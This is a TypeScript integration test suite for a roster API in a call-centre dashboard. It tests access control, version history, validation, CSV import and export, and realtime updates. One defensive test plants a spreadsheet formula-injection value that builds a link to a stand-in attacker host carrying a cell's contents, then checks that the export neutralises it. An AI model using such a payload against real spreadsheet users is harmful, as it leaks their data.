import {
  type RosterAnswer,
  type RosterChange,
  rosterAnswerSchema,
  rosterImportAnswerSchema,
  rosterVersionsAnswerSchema,
} from '@floorpulse/shared';
import { asyncScheduler, Subject } from 'rxjs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Roster } from '../../server/src/agents/roster.js';
import { createDisplay, person } from '../helpers/people.js';
import { record, screenPool, until } from '../helpers/realtime-client.js';
import { get, post, startServer, type TestServer, TOKENS, tempDataDir } from '../helpers/server.js';

const admin = { authorization: `Bearer ${TOKENS.ADMIN_TOKEN}` };

describe('the roster API', () => {
  const dataDir = tempDataDir('roster-api');
  let server: TestServer;
  const screens = screenPool();
  const put = async (path: string, body: unknown, headers: Record<string, string> = admin) => {
    const res = await fetch(`${server.url}/api/v1/roster/${path}`, {
      method: 'PUT',
      headers: { ...headers, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
    return { status: res.status, body: await res.json() };
  };
  const importCsv = async (csv: string, contentType = 'text/csv') => {
    const res = await fetch(`${server.url}/api/v1/roster/import`, {
      method: 'POST',
      headers: { ...admin, 'content-type': contentType },
      body: csv,
    });
    return { status: res.status, body: await res.json() };
  };
  const roster = async (token: string = TOKENS.ADMIN_TOKEN): Promise<RosterAnswer> => {
    const res = await get(`${server.url}/api/v1/roster`, token);
    expect(res.status).toBe(200);
    return rosterAnswerSchema.parse(res.body);
  };
  const versions = async (id: string) =>
    (
      await server.store.client.query({
        query: 'SELECT name, team_id, active, by FROM roster_agents WHERE id = {id:String} ORDER BY at',
        query_params: { id },
        format: 'JSONEachRow',
      })
    ).json<{ name: string; team_id: string; active: boolean; by: string }>();

  beforeAll(async () => {
    server = await startServer({ dataDir, scheduler: asyncScheduler });
  });
  afterAll(async () => {
    screens.closeAll();
    await server.stop();
  });

  it('lists an agent seen in the events but not in the roster as unlisted, by id, until it is added', async () => {
    const ts = Date.now() - 60_000;
    const res = await post(`${server.url}/api/v1/events`, [
      { id: 'u-d1', type: 'call.dialed', ts, teamId: 'north', agentId: 'nc-lat-94339-1', callId: 'u-c1', channel: 'robot' },
    ]);
    expect(res.status).toBe(200);
    const before = await roster();
    expect(before.unlisted).toEqual([{ id: 'nc-lat-94339-1', teamId: 'north', channel: 'robot', lastSeen: new Date(ts).toISOString() }]);
    expect(before.unlistedTotal).toBe(1);

    expect((await put('agents/nc-lat-94339-1', { name: 'AI 线路 1', teamId: 'north', channel: 'robot', active: true })).status).toBe(200);
    const after = await roster();
    expect(after.unlisted).toEqual([]);
    expect(after.agents).toContainEqual({ id: 'nc-lat-94339-1', name: 'AI 线路 1', teamId: 'north', channel: 'robot', active: true });
  });

  it('is readable by every screen (a display, an agent) and not by the ingest token', async () => {
    const display = await createDisplay(server.url, { name: 'North TV', scope: 'team:north' });
    expect((await roster(display.secret)).agents.map((a) => a.id)).toContain('nc-lat-94339-1');
    const agent = await person(server.url, { login: 'wang.fang', role: 'agent', agentId: 'WangFang', password: 'agent-password-123' });
    const asAgent = await fetch(`${server.url}/api/v1/roster`, { headers: agent.headers });
    expect(asAgent.status).toBe(200);
    expect((await get(`${server.url}/api/v1/roster`, TOKENS.INGEST_TOKEN)).status).toBe(403);
  });

  it('keeps every change of an agent as a version with its author, the person who signed in', async () => {
    const boss = await person(server.url, { login: 'li.admin', name: '李管理', role: 'admin', password: 'admin-password-123' });
    const body = { name: '王芳', teamId: 'north', channel: 'human', supervisor: 'wang.sup', active: true };
    expect((await put('agents/WangFang', body, boss.headers)).body).toEqual({ id: 'WangFang', ...body });
    // The same again is no change: not written twice.
    expect((await put('agents/WangFang', body, boss.headers)).status).toBe(200);
    expect((await put('agents/WangFang', { ...body, teamId: 'south' })).status).toBe(200);
    expect((await put('agents/WangFang', { ...body, teamId: 'south', active: false })).status).toBe(200);
    expect(await versions('WangFang')).toEqual([
      { name: '王芳', team_id: 'north', active: true, by: 'li.admin' },
      { name: '王芳', team_id: 'south', active: true, by: 'admin' },
      { name: '王芳', team_id: 'south', active: false, by: 'admin' },
    ]);
    expect((await roster()).agents.find((a) => a.id === 'WangFang')).toMatchObject({ teamId: 'south', active: false });

    // The same history over HTTP, for an admin: who was on which team when, and who moved them.
    const history = await get(`${server.url}/api/v1/roster/agents/WangFang/versions`, TOKENS.ADMIN_TOKEN);
    expect(history.status).toBe(200);
    const kept = rosterVersionsAnswerSchema.parse(history.body).versions;
    expect(kept.map((v) => [v.teamId, v.active, v.by])).toEqual([
      ['north', true, 'li.admin'],
      ['south', true, 'admin'],
      ['south', false, 'admin'],
    ]);
    expect(kept[0]).toMatchObject({ id: 'WangFang', name: '王芳', supervisor: 'wang.sup', channel: 'human' });
    expect(Date.parse(kept[0]!.at)).toBeLessThan(Date.parse(kept[1]!.at));
    expect(await get(`${server.url}/api/v1/roster/agents/Nobody/versions`, TOKENS.ADMIN_TOKEN)).toEqual({
      status: 404,
      body: { error: 'id: Nobody is not in the roster' },
    });
    expect((await get(`${server.url}/api/v1/roster/agents/WangFang/versions`, TOKENS.SUPERVISOR_TOKEN)).status).toBe(403);
  });

  it('refuses bad input with a 400 naming the field, and changes for anyone but an admin', async () => {
    const good = { name: '李伟', teamId: 'north', channel: 'human', active: true };
    const refusal = async (path: string, body: unknown) => {
      const r = await put(path, body);
      expect(r.status, JSON.stringify(r.body)).toBe(400);
      return r.body.error as string;
    };
    expect(await refusal('agents/LiWei', { ...good, channel: 'cyborg' })).toMatch(/^channel: /);
    expect(await refusal('agents/LiWei', { ...good, name: '   ' })).toMatch(/^name: must not be empty/);
    expect(await refusal('agents/LiWei', { name: '李伟', channel: 'human', active: true })).toBe('teamId: is required');
    expect(await refusal('agents/LiWei', { ...good, supervisor: 'no spaces allowed' })).toMatch(/^supervisor: /);
    expect(await refusal('agents/LiWei', { ...good, nickname: 'Wei' })).toBe('nickname: unknown field');
    expect(await refusal('teams/north', { name: '北区一组', timeZone: 'Asia/Beijing', supervisors: [] })).toBe(
      'timeZone: must be an IANA time zone such as Asia/Shanghai',
    );
    expect(await refusal(`agents/${'x'.repeat(65)}`, good)).toMatch(/^id: must be at most 64/);
    expect((await put('agents/LiWei', good, { authorization: `Bearer ${TOKENS.SUPERVISOR_TOKEN}` })).status).toBe(403);
    expect((await roster()).agents.map((a) => a.id)).not.toContain('LiWei');
  });

  it('imports a CSV: the valid rows land, each refused row is named by its line and column', async () => {
    const csv = [
      'kind,id,name,team,channel,supervisor,status,time_zone,supervisors',
      'team,north,北区一组,,,,,Asia/Shanghai,wang.sup li.sup',
      'agent,ZhangMin,张敏,north,human,wang.sup,active,,',
      'agent,BadChannel,某人,north,cyborg,,active,,',
      'agent,"Chen,Jing","陈静',
      '（夜班）",north,human,,left,,',
      'team,west,西区四组,,,,,Mars/Olympus,',
      'robot,r9,AI 线路 9,north,robot,,,,',
      '',
      'agent,ZhangMin,张敏 again,north,human,,,,',
      'agent,NoTeam,赵丽,,human,,,,',
    ].join('\r\n');
    const { status, body } = await importCsv(csv);
    expect(status).toBe(200);
    expect(rosterImportAnswerSchema.parse(body)).toEqual({
      agents: 2,
      teams: 1,
      changed: 3,
      rejected: [
        { line: 4, error: 'channel: must be human or robot' },
        { line: 7, error: 'time_zone: must be an IANA time zone such as Asia/Shanghai' },
        { line: 8, error: 'kind: must be agent or team' },
        { line: 10, error: 'id: agent ZhangMin is on line 3 already' },
        { line: 11, error: 'team: must not be empty' },
      ],
    });
    const r = await roster();
    expect(r.teams).toContainEqual({ id: 'north', name: '北区一组', timeZone: 'Asia/Shanghai', supervisors: ['wang.sup', 'li.sup'] });
    expect(r.agents).toContainEqual({
      id: 'ZhangMin',
      name: '张敏',
      teamId: 'north',
      channel: 'human',
      supervisor: 'wang.sup',
      active: true,
    });
    expect(r.agents).toContainEqual({ id: 'Chen,Jing', name: '陈静\r\n（夜班）', teamId: 'north', channel: 'human', active: false });
    expect(r.agents.map((a) => a.id)).not.toContain('BadChannel');
  });

  it("keeps supervisors' logins and the unlisted to supervisors and admins: a TV, a kiosk and an agent get the names", async () => {
    const display = await createDisplay(server.url, { name: 'North TV 2', scope: 'team:north' });
    for (const token of [display.secret, TOKENS.VIEWER_TOKEN]) {
      const r = await roster(token);
      expect(r.agents.find((a) => a.id === 'ZhangMin')).toEqual({
        id: 'ZhangMin',
        name: '张敏',
        teamId: 'north',
        channel: 'human',
        active: true,
      });
      expect(r.teams.find((t) => t.id === 'north')).toEqual({ id: 'north', name: '北区一组', timeZone: 'Asia/Shanghai', supervisors: [] });
      expect(r.agents.some((a) => 'supervisor' in a)).toBe(false);
      expect([r.unlisted, r.unlistedTotal]).toEqual([[], 0]);
    }
    const full = await roster(TOKENS.SUPERVISOR_TOKEN);
    expect(full.agents.find((a) => a.id === 'ZhangMin')?.supervisor).toBe('wang.sup');
    expect(full.teams.find((t) => t.id === 'north')?.supervisors).toEqual(['wang.sup', 'li.sup']);

    const tv = await screens.connect(server.url, { token: display.secret });
    const sup = await screens.connect(server.url, { token: TOKENS.SUPERVISOR_TOKEN });
    const onTv = record<RosterChange>(tv, 'roster:update');
    const onSup = record<RosterChange>(sup, 'roster:update');
    const body = { name: '张敏', teamId: 'north', channel: 'human', supervisor: 'li.sup', active: true };
    expect((await put('agents/ZhangMin', body)).status).toBe(200);
    await until(() => onTv.length === 1 && onSup.length === 1, 3000, 'the change on both screens');
    expect(onSup[0]!.data.agents).toEqual([{ id: 'ZhangMin', ...body }]);
    expect(onTv[0]!.data.agents).toEqual([{ id: 'ZhangMin', name: '张敏', teamId: 'north', channel: 'human', active: true }]);
    tv.close();
    sup.close();
  });

  it('answers a file with no valid row, an unknown column or another content type with a 400 or 415 saying why', async () => {
    const none = await importCsv('kind,id,name,team,channel\nagent,x1,,north,human\n');
    expect(none.status).toBe(400);
    expect(none.body).toMatchObject({
      error: 'csv: no valid row',
      agents: 0,
      teams: 0,
      rejected: [{ line: 2, error: 'name: must not be empty' }],
    });
    // A ';' file from a decimal-comma spreadsheet reads as well.
    expect((await importCsv('kind;id;name;team;channel\nagent;x2;孙丽;south;human\n')).body).toMatchObject({ agents: 1, rejected: [] });
    const unknown = await importCsv('kind,id,name,nickname\nagent,x3,周涛,Tao\n');
    expect(unknown).toEqual({ status: 400, body: { error: expect.stringMatching(/^csv: unknown column "nickname"/) } });
    expect((await importCsv('id,name\nx4,吴华\n')).body).toEqual({ error: 'csv: the header has no kind column' });
    expect((await importCsv('kind,id,name\nagent,x5,"never closed\n')).body).toEqual({
      error: 'csv: a quoted cell does not close; nothing was imported',
    });
    expect((await importCsv('{"kind":"agent"}', 'application/json')).status).toBe(415);
  });

  it('exports CSV with formulas neutralised, and the export imports back unchanged', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    expect((await put('agents/Evil1', { name: evil, teamId: 'north', channel: 'human', active: true })).status).toBe(200);
    expect((await put('agents/Evil2', { name: '@SUM(1+1)', teamId: '+north', channel: 'human', active: true })).status).toBe(200);
    const res = await fetch(`${server.url}/api/v1/roster/export.csv`, { headers: admin });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    const bytes = Buffer.from(await res.arrayBuffer());
    // The BOM, so that Excel reads 王芳 as UTF-8 (fetch's text() would drop it).
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const csv = bytes.toString('utf8');
    expect(csv.startsWith('\uFEFFkind,id,name,team,channel,supervisor,status,time_zone,supervisors,shift_end\r\n')).toBe(true);
    expect(csv).toContain(`agent,Evil1,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",north,human,,active,,,\r\n`);
    expect(csv).toContain("agent,Evil2,'@SUM(1+1),'+north,human,,active,,,\r\n");
    expect(csv).toContain('team,north,北区一组,,,,,Asia/Shanghai,wang.sup li.sup,\r\n');
    expect(csv).toContain('"陈静\r\n（夜班）"');

    const before = await roster();
    const back = await importCsv(csv);
    expect(back.status).toBe(200);
    expect(back.body).toMatchObject({ agents: before.agents.length, teams: before.teams.length, changed: 0, rejected: [] });
    const after = await roster();
    expect(after.agents).toEqual(before.agents);
    expect(after.agents.find((a) => a.id === 'Evil1')?.name).toBe(evil);
    expect(
      (await fetch(`${server.url}/api/v1/roster/export.csv`, { headers: { authorization: `Bearer ${TOKENS.VIEWER_TOKEN}` } })).status,
    ).toBe(403);
  });

  it('pushes each change to every open screen, a display included, as roster:update', async () => {
    const wall = await screens.connect(server.url, { token: TOKENS.VIEWER_TOKEN });
    const display = await createDisplay(server.url, { name: 'South TV', scope: 'team:south' });
    const tv = await screens.connect(server.url, { token: display.secret });
    const onWall = record<RosterChange>(wall, 'roster:update');
    const onTv = record<RosterChange>(tv, 'roster:update');
    expect((await put('teams/south', { name: '南区二组', timeZone: 'Asia/Shanghai', supervisors: [] })).status).toBe(200);
    expect((await importCsv('kind,id,name,team,channel\nagent,SunLi,孙丽,south,human\n')).status).toBe(200);
    await until(() => onWall.length === 2 && onTv.length === 2, 3000, 'both changes on both screens');
    expect(onWall.map((c) => c.data)).toEqual([
      { agents: [], teams: [{ id: 'south', name: '南区二组', timeZone: 'Asia/Shanghai', supervisors: [] }] },
      { agents: [{ id: 'SunLi', name: '孙丽', teamId: 'south', channel: 'human', active: true }], teams: [] },
    ]);
    expect(onTv.map((c) => c.data)).toEqual(onWall.map((c) => c.data));
    // No change, no broadcast: the same row again is not news.
    await importCsv('kind,id,name,team,channel\nagent,SunLi,孙丽,south,human\n');
    await wall.emitWithAck('unsubscribe', { scope: 'floor', window: '15m' });
    expect(onWall).toHaveLength(2);
  });

  it('keeps the roster across a restart', async () => {
    const before = await roster();
    await server.stop();
    server = await startServer({ dataDir, scheduler: asyncScheduler });
    const after = await roster();
    expect(after.agents).toEqual(before.agents);
    expect(after.teams).toEqual(before.teams);
  });

  it('is read back from ClickHouse by another process sharing the store (the 10 s refresh with REDIS_URL)', async () => {
    // A second Roster on the same ClickHouse: what a peer process holds. It knows nothing until it refreshes.
    const peer = new Roster({ client: server.store.client, scheduler: asyncScheduler, changes: new Subject<RosterChange>() });
    expect((await put('agents/ZhouTao', { name: '周涛', teamId: 'north', channel: 'human', active: true })).status).toBe(200);
    expect(peer.agent('ZhouTao')).toBeUndefined();
    await peer.refresh();
    expect(peer.agent('ZhouTao')).toEqual({ id: 'ZhouTao', name: '周涛', teamId: 'north', channel: 'human', active: true });
    expect(peer.listAgents()).toEqual((await roster()).agents);
    // Its own change is one more version, with its author, after the one it read.
    await peer.put({ agents: [{ id: 'ZhouTao', name: '周涛', teamId: 'south', channel: 'human', active: true }], teams: [] }, 'peer.admin');
    expect((await versions('ZhouTao')).map((v) => [v.team_id, v.by])).toEqual([
      ['north', 'admin'],
      ['south', 'peer.admin'],
    ]);
  });
});
